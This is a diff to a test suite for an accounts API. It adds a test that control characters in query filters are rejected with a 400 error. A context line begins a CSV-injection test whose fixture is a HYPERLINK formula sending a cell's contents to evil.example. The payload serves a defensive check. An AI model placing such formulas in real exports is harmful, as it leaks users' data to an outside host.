@@ -324,6 +324,19 @@ describe('export', () => {
     expect(held).toHaveLength(1);
   });
 
+  it('refuses a filter with a NUL or another control character (400, INVALID_INPUT), in the export and the lists', async () => {
+    // Found by the API fuzz test: PostgreSQL refuses a NUL in a text parameter, which was a 500.
+    for (const path of ['/api/accounts/export.csv', '/api/accounts', '/api/pool']) {
+      for (const query of ['q=%00K', 'industry=a%00', 'region=%07', 'tag=x%00y']) {
+        const res = await fetch(`${app.baseUrl}${path}?${query}`, {
+          headers: { Authorization: `Bearer ${app.org.repA1.token}` },
+        });
+        expect([path, query, res.status]).toEqual([path, query, 400]);
+        expect(((await res.json()) as { error: { code: string } }).error.code).toBe('INVALID_INPUT');
+      }
+    }
+  });
+
   it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection), and re-imports them unchanged', async () => {
     const risky = {
       name: '=HYPERLINK("http://evil.example/?d="&B2,"open")',
